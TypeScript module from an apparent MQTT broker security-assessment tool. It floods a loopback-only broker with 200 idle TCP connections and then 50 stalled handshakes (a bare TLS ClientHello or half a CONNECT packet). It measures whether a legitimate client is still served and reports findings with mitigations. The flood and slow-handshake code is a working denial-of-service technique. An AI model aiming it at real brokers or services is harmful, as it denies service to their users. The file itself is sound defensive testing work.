/**
 * Denial of service by connections: 200 TCP connections opened at once and left silent, then 50
 * that start a handshake and stall — a ClientHello and nothing more on a TLS listener, half a
 * CONNECT on a plain one. While each flood is held, a fresh legitimate client connects and waits
 * for the publisher's next reading: the outcome is whether the broker kept serving, measured.
 */
import { connect as netConnect, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { generate } from 'mqtt-packet';
import type { Evidence, Finding, Text } from '../core/findings.js';
import { assertLoopback } from './loopback.js';
import { closeClient, describeProbe, probeMqtt, settleWithin } from './mqtt-probe.js';
import { attackerClientId, logSince, nextMessage, readingWaitMs, subscribeWithin } from './mqtt-session.js';
import type { Attack, AttackTarget } from './target.js';

const IDLE = 200;
const STALLED = 50;
/** The flood is held at least this long, and the legitimate check gets at most the budget. */
const HOLD_MS = 1_000;
/** Long enough for a SYN the kernel dropped (listen backlog full) to be sent again, 1 s later (RFC 6298 §2.1). */
const OPEN_MS = 2_000;
const CHECK_BUDGET_MS = 2_500;
/** How both brokers word the end of a connection that never sent CONNECT, and a refusal. */
const ENDS = /Client <unknown> (closed its connection|disconnected)|Socket error/;
const REFUSALS = /denied|max_connections|limit|out of memory|too many/i;

export const floodAttack: Attack = {
  name: 'flood',
  async run(target) {
    assertLoopback(target.broker.host);
    const idle = await hold(target, IDLE, undefined);
    const first = await firstBytes(target);
    const stalled = await hold(target, STALLED, first);
    return [finding(target, 'connection-flood', idle), finding(target, 'slow-handshake', stalled)];
  },
};

interface Held {
  readonly count: number;
  readonly connected: number;
  readonly failed: Readonly<Record<string, number>>;
  /** Milliseconds from the burst to each connection's establishment, sorted. */
  readonly connectMs: readonly number[];
  /** Closed or reset by the broker while we held them. */
  readonly closedByBroker: number;
  /** Bytes the broker sent back on them (its side of the stalled handshakes). */
  readonly bytesFromBroker: number;
  readonly heldMs: number;
  readonly check: string;
  readonly served: boolean;
  readonly subscriberDelta: number;
  readonly log: readonly string[];
}

/** Open `count` connections at once (sending `first` on each), check the service, close them all. */
async function hold(target: AttackTarget, count: number, first: Uint8Array | undefined): Promise<Held> {
  const { broker } = target;
  const mark = broker.log().length;
  const sockets: Socket[] = [];
  const failed: Record<string, number> = {};
  let closing = false;
  let connected = 0;
  let closedByBroker = 0;
  let bytesFromBroker = 0;
  const connectMs: number[] = [];
  const burst = Date.now();
  const app = target.subscriber.subscriber;
  const receivedBefore = app?.state.received ?? 0;
  let check: string;
  let served: boolean;
  let held: number;
  try {
    const opened = Array.from({ length: count }, () => {
      const s = netConnect({ host: broker.host, port: broker.port });
      sockets.push(s);
      s.on('data', (d: Buffer) => (bytesFromBroker += d.length));
      let up = false;
      s.once('close', () => {
        if (up && !closing) closedByBroker++;
      });
      return settleWithin<void>(Date.now() + OPEN_MS, (done) => {
        s.once('connect', () => {
          up = true;
          connected++;
          connectMs.push(Date.now() - burst);
          if (first) s.write(first);
          done();
        });
        // A reset after connect counts as the broker closing it, not as a failure to open.
        s.on('error', (e: NodeJS.ErrnoException) => {
          const why = e.code ?? e.message;
          if (!up) failed[why] = (failed[why] ?? 0) + 1;
          done();
        });
      });
    });
    await Promise.all(opened);
    const began = Date.now();
    ({ check, served } = await legitimateCheck(target));
    const rest = HOLD_MS - (Date.now() - began);
    if (rest > 0) await new Promise((r) => setTimeout(r, rest));
    held = Date.now() - began;
  } finally {
    closing = true;
    for (const s of sockets) s.destroy();
  }
  const subscriberDelta = (app?.state.received ?? 0) - receivedBefore;
  // Wait until the broker has logged the end of each one (or 1 s), so the next attack starts
  // on a broker that has let them all go, and the log shows it did.
  // A broker that logs none of these ends (ours, for a plain socket) is given 300 ms.
  let log = await logSince(broker.log, mark);
  for (const began = Date.now(); Date.now() - began < 1_000;) {
    const ends = log.filter((l) => ENDS.test(l)).length;
    if (ends >= connected || (ends === 0 && Date.now() - began > 300)) break;
    await new Promise((r) => setTimeout(r, 25));
    log = await logSince(broker.log, mark);
  }
  return {
    count,
    connected,
    failed,
    connectMs: connectMs.sort((a, b) => a - b),
    closedByBroker,
    bytesFromBroker,
    heldMs: held,
    check,
    served: served || (check.startsWith('CONNACK return code 0') && subscriberDelta > 0),
    subscriberDelta,
    log,
  };
}

/** A fresh client as a legitimate reader (anonymous in Step 1, the operator in Steps 2–4): connect, subscribe, next reading. */
async function legitimateCheck(target: AttackTarget): Promise<{ check: string; served: boolean }> {
  const { broker } = target;
  const began = Date.now();
  const id = target.identities.operator;
  const probe = await probeMqtt({
    host: broker.host,
    port: broker.port,
    clientId: attackerClientId('flood-check', target.rng),
    deadlineMs: 1_500,
    ...(broker.tls
      ? {
          tls: {
            caCertPem: target.caCertPem,
            servername: broker.servername,
            identity: { certPem: id.certPem, keyPem: id.keyPem },
          },
        }
      : {}),
  });
  if (probe.kind !== 'connected') return { check: describeProbe(probe), served: false };
  try {
    const left = () => Math.max(100, CHECK_BUDGET_MS - (Date.now() - began));
    const granted = await subscribeWithin(probe.client, target.topic, left());
    const wait = Math.min(left(), readingWaitMs(target.subscriber.subscriber?.state.readings ?? []));
    const got = typeof granted === 'number' ? await nextMessage(probe.client, target.topic, wait) : undefined;
    const reading = got
      ? `next reading after ${got.afterMs} ms: ${got.payload}`
      : `no reading within ${wait} ms`;
    return {
      check: `${describeProbe(probe)} in ${probe.elapsedMs} ms; SUBSCRIBE ${target.topic} → ${typeof granted === 'number' ? `granted QoS ${granted}` : granted}; ${reading}`,
      served: got !== undefined,
    };
  } finally {
    await closeClient(probe.client);
  }
}

/**
 * What each stalled connection sends: a real ClientHello, taken from Node's TLS client talking
 * into a stream that never answers; on a plain listener, the first half of a CONNECT.
 */
async function firstBytes(target: AttackTarget): Promise<Uint8Array> {
  if (!target.broker.tls) {
    const connect = generate({
      cmd: 'connect',
      protocolId: 'MQTT',
      protocolVersion: 4,
      clean: true,
      keepalive: 60,
      clientId: attackerClientId('slow', target.rng),
    });
    // The fixed header promises the whole packet; the broker has to wait for the rest.
    return connect.subarray(0, Math.floor(connect.length / 2));
  }
  let wire: Duplex | undefined;
  let tls: TLSSocket | undefined;
  const hello = await settleWithin<Buffer>(Date.now() + 1_000, (done) => {
    wire = new Duplex({
      read() {},
      write(chunk: Buffer, _encoding, callback) {
        done(Buffer.from(chunk));
        callback();
      },
    });
    tls = tlsConnect({ socket: wire, servername: target.broker.servername, ca: target.caCertPem });
    tls.on('error', () => {});
  });
  tls?.destroy();
  wire?.destroy();
  return hello === 'timeout' ? new Uint8Array(0) : hello;
}

function finding(target: AttackTarget, which: 'connection-flood' | 'slow-handshake', h: Held): Finding {
  const { step, broker } = target;
  const stall: Text = broker.tls
    ? { en: 'send a ClientHello and nothing more', fr: 'envoient un ClientHello et plus rien' }
    : { en: 'send half a CONNECT and nothing more', fr: 'envoient la moitié d’un CONNECT et plus rien' };
  const what: Text =
    which === 'connection-flood'
      ? {
          en: `${h.count} TCP connections opened at once, silent`,
          fr: `${h.count} connexions TCP ouvertes d’un coup, muettes`,
        }
      : { en: `${h.count} connections that ${stall.en}`, fr: `${h.count} connexions qui ${stall.fr}` };
  const failures = Object.entries(h.failed).map(([k, n]) => `${k} ×${n}`);
  const count = (re: RegExp) => h.log.filter((l) => re.test(l)).length;
  const refusals = h.log.filter((l) => REFUSALS.test(l));
  const evidence: Evidence[] = [
    {
      kind: 'measure',
      label: { en: 'The flood', fr: 'L’inondation' },
      data: [
        `opened ${h.count}, connected ${h.connected}${failures.length ? `, failed: ${failures.join(', ')}` : ''}`,
        connectTimes(h.connectMs),
        `held ${h.heldMs} ms; closed by the broker meanwhile: ${h.closedByBroker}`,
        `bytes sent back by the broker on them: ${h.bytesFromBroker}`,
        `subscriber (M5Stack) readings received while held: ${h.subscriberDelta}`,
      ].join('\n'),
    },
    {
      kind: 'connection',
      label: { en: 'A legitimate client during the flood', fr: 'Un client légitime pendant l’inondation' },
      data: h.check,
    },
    {
      kind: 'broker-log',
      label: { en: 'Broker log during the flood', fr: 'Journal du broker pendant l’inondation' },
      data: [
        `${h.log.length} lines from the flood's start to its release: ${count(/New connection from/)} "New connection from", ${count(ENDS)} ends of connections without CONNECT, ${refusals.length} refusals`,
        ...h.log.slice(0, 2),
        ...refusals.slice(0, 5),
      ].join('\n'),
    },
  ];
  return {
    id: `dos/${which}@${step}`,
    attack: 'flood',
    step,
    stride: ['D'],
    title:
      which === 'connection-flood'
        ? { en: 'Flood the broker with connections', fr: 'Inonder le broker de connexions' }
        : { en: 'Stall handshakes at the broker', fr: 'Bloquer des négociations au broker' },
    attempted: {
      en: `${what.en}, held about ${HOLD_MS / 1000} s while a fresh legitimate client connects and waits for the next reading.`,
      fr: `${what.fr}, maintenues environ ${HOLD_MS / 1000} s pendant qu’un client légitime se connecte et attend la mesure suivante.`,
    },
    outcome: h.served ? 'blocked' : 'succeeded',
    result: h.served
      ? {
          en: `The broker kept serving: ${h.check.includes('next reading') ? 'the legitimate client got the next reading' : 'the M5Stack kept receiving'} while ${h.connected} flood connections were open.`,
          fr: `Le broker a continué à servir : ${h.check.includes('next reading') ? 'le client légitime a reçu la mesure suivante' : 'le M5Stack a continué à recevoir'} pendant que ${h.connected} connexions d’inondation étaient ouvertes.`,
        }
      : {
          en: `Service was denied: ${h.check}.`,
          fr: `Le service a été refusé : ${h.check}.`,
        },
    evidence,
    ...(h.served
      ? {}
      : {
          mitigation: {
            en: 'Bound what one source can hold: max_connections on the listener, a handshake timeout, per-address limits in a firewall in front of the broker.',
            fr: 'Borner ce qu’une source peut occuper : max_connections sur l’écoute, un délai de négociation, des limites par adresse dans un pare-feu devant le broker.',
          },
        }),
  };
}

/** How long the connections took to open; a SYN the kernel dropped is sent again after 1 s (RFC 6298 §2.1). */
function connectTimes(ms: readonly number[]): string {
  if (ms.length === 0) return 'established: none';
  const late = ms.filter((m) => m > 500).length;
  const median = ms[Math.floor(ms.length / 2)]!;
  return `established: median ${median} ms, slowest ${ms.at(-1)} ms${late ? `; ${late} after 500 ms (the 1 s of a retransmitted SYN: the broker's listen backlog was full)` : ''}`;
}
